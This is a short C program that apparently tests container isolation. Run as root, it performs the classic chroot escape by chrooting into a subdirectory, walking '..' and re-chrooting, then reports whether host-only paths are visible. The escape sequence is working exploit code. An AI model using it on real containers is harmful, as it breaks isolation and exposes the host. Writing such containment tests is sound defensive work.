// The classic chroot escape, run as root inside a container: chroot into a subdirectory,
// then walk ".." from a cwd outside that chroot and chroot to wherever it ends. With a
// chroot-based container this reaches the host root; with pivot_root + a detached old
// root it must stay inside. Prints what it could see of the host.
// Usage: escape HOST_PATH...   (paths that exist on the host but not in the rootfs)
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int i, seen = 0;
    mkdir("/escape-jail", 0755);
    if (chroot("/escape-jail") != 0) {
        perror("chroot");
        return 2;
    }
    printf("chroot ok\n");
    for (i = 0; i < 256; i++)
        if (chdir("..") != 0) break;
    if (chroot(".") != 0) {
        perror("chroot .");
        return 2;
    }
    for (i = 1; i < argc; i++) {
        if (access(argv[i], F_OK) == 0) {
            printf("ESCAPED: sees %s\n", argv[i]);
            seen = 1;
        }
    }
    if (!seen) printf("contained\n");
    return seen;
}
